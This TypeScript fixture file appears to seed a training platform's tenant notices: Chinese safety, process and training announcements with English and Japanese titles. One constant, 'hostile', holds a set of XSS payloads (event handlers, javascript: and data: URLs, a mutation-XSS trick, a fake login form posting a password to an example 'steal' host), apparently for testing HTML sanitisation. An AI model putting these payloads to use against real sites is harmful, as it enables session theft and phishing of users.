/** A notice as it is written down: newest first, days before today. */
export type NoticeRecord = {
  kind: 'news' | 'announcement' | 'processUpdate'
  title: string
  en: string
  ja: string
  paragraphs: readonly string[]
  list?: readonly string[]
  publisher: string
  daysAgo: number
  file?: readonly [name: string, url: string]
  /** Instead of paragraphs. */
  html?: string
  shownOn?: 'newsPage' | 'home' | 'both'
  released?: false
}

const manual = ['培训日程.pdf', '/train/file/notice/training-calendar.pdf'] as const
const rules = ['特种作业人员管理办法.pdf', '/train/file/notice/special-operations-rules.pdf'] as const
const process = ['工艺更新说明.pdf', '/train/file/notice/process-update.pdf'] as const

/** What a careless or malicious author might paste; nothing of it may run or leave its place. */
const hostile = `<p>请各部门按附件要求完成系统升级前的数据核对。</p>
<script>document.title = 'hacked'; window.__notice = 1</script>
<img src="x" onerror="window.__notice = 2" alt="升级示意图">
<svg onload="window.__notice = 3"><circle r="10"></circle></svg>
<iframe src="javascript:parent.__notice = 4" srcdoc="<script>parent.__notice = 5</script>"></iframe>
<a href="javascript:window.__notice = 6">点击查看核对清单</a>
<a href="  jAvAsCrIpT&#58;window.__notice = 7">备用链接</a>
<a href="data:text/html,<script>window.__notice = 8</script>">下载模板</a>
<form action="https://example.org/steal"><input name="password" autofocus onfocus="window.__notice = 9"><button>重新登录</button></form>
<div style="position:fixed;inset:0;z-index:2147483647;background:url(javascript:window.__notice = 10)">您的会话已过期</div>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.__notice = 11&gt;"></mglyph></table></mtext></math>
<object data="javascript:window.__notice = 12"></object><embed src="javascript:window.__notice = 13">
<meta http-equiv="refresh" content="0;url=https://example.org"><base href="https://example.org/"><link rel="stylesheet" href="https://example.org/x.css">
<style>body { display: none }</style>
<p onclick="window.__notice = 14" id="root" name="cookie">核对截止日期为<strong>本月最后一个工作日</strong>，逾期请说明原因。</p>`

/** The notices of tenant 82: 40 released ones, 3 of them for the news page only, and 2 that are not released. */
export const mainNotices: readonly NoticeRecord[] = [
  { kind: 'news', title: '东岭电力班组长研修班举行情景模拟', en: 'Team Leader Class Practises on Real Cases', ja: '班長研修で場面演習を実施', publisher: '培训中心', daysAgo: 1, paragraphs: ['昨日下午，班组长研修班在培训中心二楼报告厅举行情景模拟，来自检修部、运行部和东岭重工的 28 名学员参加。', '本期研修为期三个月，采用“线上课程 + 现场案例 + 情景模拟”的方式，重点提升班前会组织、违章纠正和团队沟通能力。', '学员完成全部课程并通过综合考试后，将获得班组长能力提升证书。'] },
  { kind: 'announcement', title: '关于开展安全生产月专项培训的通知', en: 'Safety Month Training', ja: '安全月間研修のお知らせ', publisher: '安全监察部', daysAgo: 2, file: manual, paragraphs: ['为扎实开展“安全生产月”活动，经研究决定在全公司范围内开展专项培训，请各单位组织落实。'], list: ['参训对象：全体员工', '培训内容：安全生产法律法规、事故案例分析、劳动防护', '完成时限：在“安全生产月专项计划”结束前完成学习并通过考试'] },
  { kind: 'processUpdate', title: '10 kV 电缆冷缩接头工艺更新', en: 'New Process for 10 kV Cold-Shrink Joints', ja: '10 kV冷間収縮接続の工程更新', publisher: '检修部', daysAgo: 3, file: process, paragraphs: ['自即日起，10 kV 电缆中间接头统一采用新版冷缩工艺，主要变化如下：'], list: ['外半导电层剥切长度由 40 mm 调整为 50 mm', '应力管搭接长度不少于 20 mm', '防水带材由单层改为双层半叠绕'] },
  { kind: 'announcement', title: '低压电工取证班报名通知', en: 'Enrolment for the Low-Voltage Electrician Class', ja: '低圧電工資格講習の募集', publisher: '培训中心', daysAgo: 4, file: rules, paragraphs: ['新一期低压电工取证班将于下月开班，计划招收 40 人。', '报名人员须年满 18 周岁、初中以上学历、身体健康，无妨碍从事电工作业的疾病。请在平台完成入厂教育后到所在部门登记。'] },
  { kind: 'news', title: '赵强同志获评年度学习标兵', en: 'Zhao Qiang Named Learner of the Year', ja: '趙強さんが年間優秀学習者に', publisher: '培训中心', daysAgo: 5, paragraphs: ['运行一部班组长赵强全年完成 46 门课程、通过全部考试，学时与积分均列第一，被评为年度学习标兵。', '他说：“每天下班前抽出半小时，把当天遇到的问题在平台上找到答案，一年下来收获很大。”'] },
  { kind: 'processUpdate', title: '焊条烘干与领用流程调整', en: 'Drying and Issuing of Electrodes', ja: '溶接棒の乾燥・払出し手順の変更', publisher: '东岭重工', daysAgo: 6, paragraphs: ['碱性焊条烘干温度统一为 380 ℃、保温 1.5 小时，烘干后放入 120 ℃ 恒温箱；领用使用保温筒，一次领用不超过 4 小时用量，重复烘干不超过两次。'] },
  { kind: 'announcement', title: '系统升级前数据核对通知', en: 'Data Check before the Upgrade', ja: 'システム更新前のデータ確認', publisher: '信息中心', daysAgo: 7, paragraphs: [], html: hostile },
  { kind: 'news', title: '应急救护进班组活动圆满结束', en: 'First Aid Roadshow Completed', ja: '救急巡回講習が終了', publisher: '工会', daysAgo: 8, paragraphs: ['为期两周的应急救护进班组活动昨日结束，共举办 12 场培训，覆盖 17 个班组 312 人。', '每场培训均设置心肺复苏和 AED 实操环节，现场合格率 94%。'] },
  { kind: 'announcement', title: '关于特种作业操作证复审的提醒', en: 'Renewal of Special Operation Licences', ja: '特殊作業資格の再審査について', publisher: '安全监察部', daysAgo: 9, file: rules, paragraphs: ['根据档案统计，未来三个月内共有 46 名员工的特种作业操作证到期复审。请各部门核对名单，组织人员完成“特种作业复审计划”并按期参加复审理论考试。'] },
  { kind: 'processUpdate', title: '叉车充电区安全操作规程修订', en: 'Rules for the Forklift Charging Area', ja: 'フォークリフト充電区域の規程改定', publisher: '物资部', daysAgo: 11, paragraphs: ['充电区新增氢气报警与联动排风，充电前须确认排风运行；充电期间禁止在车上进行其他作业，充电区 10 m 内禁止明火。'] },
  { kind: 'news', title: '省电力协会到我公司交流培训工作', en: 'Power Association Visits', ja: '省電力協会が来訪', publisher: '办公室', daysAgo: 12, paragraphs: ['省电力协会培训委员会一行 9 人到公司参观实训基地，观摩了低压配电柜实训和倒闸操作仿真教学，对“线上学习、线下实操、考评一体”的做法给予肯定。'] },
  { kind: 'announcement', title: '安全知识竞赛报名及规则说明', en: 'Safety Contest: Registration and Rules', ja: '安全知識コンテストの申込と規則', publisher: '工会', daysAgo: 13, paragraphs: ['竞赛在平台“我的考试”中进行，每人一次机会，限时 20 分钟。'], list: ['竞赛期间允许切换屏幕 3 次、累计 60 秒', '个人前 20 名进入决赛', '以部门为单位评选优秀组织奖 3 名'] },
  { kind: 'news', title: '仿真实训室二期工程投入使用', en: 'Second Simulation Lab Opens', ja: '第2シミュレーション実習室が稼働', publisher: '培训中心', daysAgo: 15, paragraphs: ['仿真实训室二期新增 16 个工位，可开展倒闸操作、焊接参数设定、气体检测和灭火器操作四类仿真训练，学员也可以在平台课程中直接进入。'] },
  { kind: 'processUpdate', title: '低压配电柜母排螺栓力矩标准更新', en: 'Torque Values for Busbar Bolts', ja: '母線ボルトのトルク基準更新', publisher: '检修部', daysAgo: 17, file: process, paragraphs: ['M10 螺栓紧固力矩调整为 40 N·m，M12 调整为 70 N·m；紧固后须用油漆笔划线标识，并在检修记录中注明力矩扳手编号。'] },
  { kind: 'announcement', title: '关于调整室外培训时间的通知', en: 'Outdoor Training Hours', ja: '屋外研修時間の変更', publisher: '培训中心', daysAgo: 19, paragraphs: ['即日起，室外实操培训调整为 8:00—10:30 和 14:30—17:00，其余时段安排线上课程。各班组应备足饮水和常用药品。'] },
  { kind: 'news', title: '我公司选手在全市电工技能大赛中获奖', en: 'Awards at the City Electricians’ Contest', ja: '市電工技能大会で入賞', publisher: '工会', daysAgo: 21, paragraphs: ['在刚刚结束的全市电工技能大赛中，检修部选手获得个人二等奖，公司代表队获团体第三名。比赛包含理论、低压配电盘装调和故障排除三个环节。'] },
  { kind: 'processUpdate', title: '有限空间作业票证电子化试运行', en: 'Electronic Permits for Confined Spaces', ja: '閉鎖空間作業許可証の電子化試行', publisher: '安全监察部', daysAgo: 23, paragraphs: ['有限空间作业审批改为线上办理，气体检测数据须在作业前 30 分钟内上传，超时自动作废。试运行期间保留纸质票证备份。'] },
  { kind: 'announcement', title: '年度技能鉴定安排', en: 'Annual Skills Assessment', ja: '年次技能検定の日程', publisher: '培训中心', daysAgo: 25, file: manual, paragraphs: ['年度技能鉴定由理论与实操两部分组成，理论 60 分、实操 40 分。理论在平台完成，实操由考评员在实训基地组织，成绩由考评员批阅后公布。'] },
  { kind: 'news', title: '“师带徒”结对仪式举行', en: 'Mentoring Pairs Sign Up', ja: '師弟ペアの結成式', publisher: '人力资源部', daysAgo: 27, paragraphs: ['33 对师徒签订了为期一年的培养协议。师傅负责实操带教，徒弟须在平台完成对应成长路径，每季度由双方共同评价。'] },
  { kind: 'announcement', title: '关于规范使用劳动防护用品的通知', en: 'Proper Use of PPE', ja: '保護具の正しい使用', publisher: '安全监察部', daysAgo: 30, paragraphs: ['近期现场检查发现安全帽下颏带未系、焊接未戴面罩等现象。请各班组在班前会上逐人检查防护用品，对屡次违章的人员安排“职业健康与劳动防护”课程补学。'] },
  { kind: 'processUpdate', title: '二保焊角焊缝参数卡发布', en: 'Parameter Card for CO₂ Fillet Welds', ja: '炭酸ガス隅肉溶接の条件カード', publisher: '东岭重工', daysAgo: 33, paragraphs: ['1.2 mm 焊丝平角焊参数：电流 220～260 A，电压 26～30 V，气体流量 18 L/min；焊脚尺寸 6 mm 时单道完成，8 mm 及以上采用多道焊。'] },
  { kind: 'news', title: '培训中心获批省级高技能人才基地', en: 'Provincial Skills Base Approved', ja: '省級高技能人材拠点に認定', publisher: '办公室', daysAgo: 37, paragraphs: ['经评审，东岭电力培训中心获批省级高技能人才培训基地，可开展电工、焊工、起重工等 9 个工种的技能等级认定。'] },
  { kind: 'announcement', title: '倒闸操作仿真考试开放通知', en: 'Switching Simulation Exam Opens', ja: '開閉操作シミュレーション試験の開始', publisher: '培训中心', daysAgo: 40, paragraphs: ['倒闸操作仿真考试已开放，每人三次机会，取最高成绩。请使用电脑浏览器进入，考试前完成“倒闸操作流程”课件。'] },
  { kind: 'processUpdate', title: '起重吊索具色标管理办法', en: 'Colour Codes for Slings', ja: '吊り具の色別管理', publisher: '东岭重工', daysAgo: 44, paragraphs: ['吊索具按季度使用绿、红、黄、蓝四种检验色标，未粘贴当季色标的吊索具一律禁止使用。'] },
  { kind: 'news', title: '海川化工开展泄漏应急演练', en: 'Spill Drill at Haichuan Chemical', ja: '海川化工で漏洩訓練', publisher: '海川化工', daysAgo: 48, paragraphs: ['演练模拟储罐阀门泄漏，从报警到切断、稀释、疏散用时 11 分钟。演练后各班组在平台完成“危险化学品安全管理”复习。'] },
  { kind: 'announcement', title: '节日期间平台维护公告', en: 'Maintenance during the Holidays', ja: '連休中の保守のお知らせ', publisher: '信息中心', daysAgo: 52, paragraphs: ['节日期间每天 0:00—4:00 进行系统维护，期间可能无法登录。正在进行的考试不受影响，已保存的答案不会丢失。'] },
  { kind: 'processUpdate', title: '变压器红外测温周期调整', en: 'Infrared Checks of Transformers', ja: '変圧器赤外線測定の周期変更', publisher: '运行一部', daysAgo: 57, paragraphs: ['负荷率超过 80% 的变压器红外测温周期由每月一次调整为每周一次，测点包括套管接头、油枕和散热器。'] },
  { kind: 'news', title: '女职工安全微课大赛作品展播', en: 'Safety Micro-Lessons by Women Employees', ja: '女性職員の安全ミニ講座', publisher: '工会', daysAgo: 62, paragraphs: ['本次大赛共收到作品 41 件，评选出一等奖 2 件、二等奖 5 件。获奖作品将陆续上线课程库。'] },
  { kind: 'announcement', title: '关于补录学时的说明', en: 'Adding Missing Class Hours', ja: '学習時間の追加登録', publisher: '培训中心', daysAgo: 68, paragraphs: ['线下培训学时由培训管理员统一补录，学员无需在平台重复学习。如发现学时缺失，请在两周内联系所在部门培训员。'] },
  { kind: 'processUpdate', title: '电动工具绝缘检测新规', en: 'Insulation Tests of Power Tools', ja: '電動工具の絶縁検査', publisher: '安全监察部', daysAgo: 74, paragraphs: ['Ⅱ 类手持电动工具绝缘电阻不低于 7 MΩ，每季度检测一次，合格后粘贴标签；租赁工具进场须提供三个月内的检测报告。'] },
  { kind: 'news', title: '新能源运维人才培养项目启动', en: 'New Energy Training Starts', ja: '新エネルギー人材育成が始動', publisher: '培训中心', daysAgo: 81, paragraphs: ['项目面向光伏与储能方向，首批 30 名学员将完成 6 门线上课程和两周电站实习。'] },
  { kind: 'announcement', title: '关于加强账号安全的提示', en: 'Keep Your Account Safe', ja: 'アカウントの安全について', publisher: '信息中心', daysAgo: 88, paragraphs: ['请不要与他人共用账号，首次登录后及时修改密码；平台工作人员不会以任何理由索要验证码。'] },
  { kind: 'processUpdate', title: '脚手架验收挂牌样式统一', en: 'One Tag for Scaffold Acceptance', ja: '足場検査札の統一', publisher: '安全监察部', daysAgo: 96, paragraphs: ['脚手架验收统一使用绿（合格）、黄（限载）、红（禁用）三色挂牌，挂牌须注明搭设单位、验收人和有效期。'] },
  { kind: 'news', title: '东岭重工焊接车间通过体系审核', en: 'Welding Shop Passes Audit', ja: '溶接工場が審査に合格', publisher: '东岭重工', daysAgo: 105, paragraphs: ['焊接车间顺利通过焊接质量体系监督审核，审核组对焊工培训记录的可追溯性给予好评。'] },
  { kind: 'announcement', title: '季度安全考试成绩查询', en: 'Results of the Quarterly Exam', ja: '四半期試験の結果', publisher: '安全监察部', daysAgo: 108, paragraphs: ['季度安全考试已经开始，交卷后即可在“我的考试—已通过/未通过”中查看成绩、作答详情与解析，错题自动加入错题本。'] },
  { kind: 'news', title: '平台上线证书在线验证功能', en: 'Certificates Can Be Checked Online', ja: '証明書のオンライン確認を開始', publisher: '信息中心', daysAgo: 133, paragraphs: ['证书详情页新增验证链接与二维码，任何人扫码即可核对姓名、课程、编号和有效期。'] },
  { kind: 'announcement', title: '实训基地开放日预约', en: 'Open Day at the Training Base', ja: '実習基地公開日の予約', publisher: '培训中心', daysAgo: 150, paragraphs: ['每月最后一个周五为实训基地开放日，员工家属可预约参观体验，名额 60 人。'] },
  { kind: 'news', title: '老师傅讲安全：一次未验电的教训', en: 'A Veteran’s Story: the Day We Did Not Test', ja: 'ベテランが語る検電忘れの教訓', publisher: '检修部', daysAgo: 172, shownOn: 'newsPage', paragraphs: ['“那天图省事，觉得开关已经拉开，就没再验电……”从业三十年的周师傅讲述亲身经历。', '他反复强调：没有验电，就当它有电。'] },
  { kind: 'announcement', title: '历史公告归档说明', en: 'Archive of Earlier Notices', ja: '過去のお知らせの保管', publisher: '办公室', daysAgo: 210, shownOn: 'newsPage', paragraphs: ['去年以前的公告已归档，如需查阅请联系办公室档案员。'] },
  { kind: 'processUpdate', title: '旧版热缩接头工艺停用说明', en: 'Old Heat-Shrink Process Withdrawn', ja: '旧熱収縮工程の廃止', publisher: '检修部', daysAgo: 240, shownOn: 'newsPage', paragraphs: ['旧版热缩接头工艺自本通知发布之日起停用，库存材料用于实训教学。'] },
  { kind: 'news', title: '（草稿）下半年培训工作总结', en: 'Draft: Half-Year Report', ja: '（下書き）下半期研修報告', publisher: '培训中心', daysAgo: 1, released: false, paragraphs: ['总结初稿，待各部门补充数据后发布。'] },
  { kind: 'announcement', title: '（待发布）冬季安全大检查方案', en: 'To Be Released: Winter Inspection', ja: '（公開前）冬季安全点検計画', publisher: '安全监察部', daysAgo: 2, released: false, paragraphs: ['方案正在会签，请勿外传。'] },
]

/** The notices of the other tenants. */
export const otherNotices: Readonly<Record<number, readonly NoticeRecord[]>> = {
  101: [
    { kind: 'announcement', title: '第一项目部塔机安装公告', en: 'Tower Crane Installation', ja: 'タワークレーン設置のお知らせ', publisher: '安全质量部', daysAgo: 2, paragraphs: ['本周六进行 3 号塔机安装，作业半径内禁止无关人员进入，请各班组调整作业面。'] },
    { kind: 'news', title: '碧园集团开展平安工地观摩', en: 'Safe Site Visit', ja: '安全現場見学会', publisher: '安全质量部', daysAgo: 6, paragraphs: ['集团各项目部 80 余人到装配式示范项目观摩，重点学习构件吊装和临边防护。'] },
    { kind: 'processUpdate', title: '高支模监测频率调整', en: 'Monitoring of High Formwork', ja: '高所型枠の監視頻度', publisher: '技术部', daysAgo: 11, paragraphs: ['浇筑期间监测频率由 1 小时一次调整为 30 分钟一次，沉降超过 8 mm 立即停工。'] },
    { kind: 'announcement', title: '施工用电检查通知', en: 'Site Power Inspection', ja: '工事用電気点検', publisher: '安全质量部', daysAgo: 20, paragraphs: ['重点检查配电箱防护、电缆敷设与漏电保护器动作试验记录。'] },
    { kind: 'news', title: '架子工取证班顺利结业', en: 'Scaffolders Certified', ja: '足場講習が修了', publisher: '培训部', daysAgo: 34, paragraphs: ['本期 42 名学员中 39 人取得架子工证书。'] },
  ],
  116: [
    { kind: 'announcement', title: '机组检修期间安全管理要求', en: 'Safety during the Overhaul', ja: '定検中の安全管理', publisher: '设备部', daysAgo: 3, paragraphs: ['2 号机组检修期间实行区域隔离，凭票进入，动火作业逐级审批。'] },
    { kind: 'news', title: '瑞盛风电登塔安全月启动', en: 'Tower Safety Month', ja: '風車昇降安全月間', publisher: '安健环部', daysAgo: 9, paragraphs: ['活动包含登塔检查、逃生装置演练和安全考试三个环节。'] },
    { kind: 'processUpdate', title: '输煤皮带拉绳开关检查标准', en: 'Pull-Cord Switch Standard', ja: '引き綱スイッチ点検基準', publisher: '燃料部', daysAgo: 18, paragraphs: ['拉绳开关每班试验一次，动作距离不超过 150 mm，记录存档一年。'] },
    { kind: 'announcement', title: '集控值班员上岗考试安排', en: 'Control Room Exam', ja: '中央制御室運転員試験の日程', publisher: '人力资源部', daysAgo: 25, paragraphs: ['考试在平台进行，限时 40 分钟，三次机会。'] },
  ],
  143: [
    { kind: 'announcement', title: '期末考试安排', en: 'Final Exams', ja: '期末試験の日程', publisher: '教务处', daysAgo: 2, paragraphs: ['电工基础期末考试在平台进行，请同学们提前在练习中心复习。'] },
    { kind: 'news', title: '我校学生在省职业技能大赛中获一等奖', en: 'First Prize for Our Students', ja: '省技能大会で一等賞', publisher: '宣传处', daysAgo: 8, paragraphs: ['电气工程系代表队获得电气安装与维修赛项一等奖。'] },
    { kind: 'announcement', title: '实训车间安全准入通知', en: 'Workshop Access', ja: '実習場の入場資格', publisher: '实训中心', daysAgo: 15, paragraphs: ['未通过“实训安全准入考试”的同学不得进入实训车间。'] },
    { kind: 'processUpdate', title: '焊工实训工件图样更新', en: 'New Welding Workpieces', ja: '溶接実習課題図の更新', publisher: '实训中心', daysAgo: 22, paragraphs: ['T 形接头试件板厚由 8 mm 改为 10 mm，焊脚尺寸 8 mm。'] },
    { kind: 'news', title: '练习中心新增题库', en: 'New Question Banks', ja: '演習問題の追加', publisher: '教务处', daysAgo: 40, paragraphs: ['练习中心新增焊接、起重与高处作业题库；低压电工题库支持按知识点和难度抽题。'] },
  ],
}
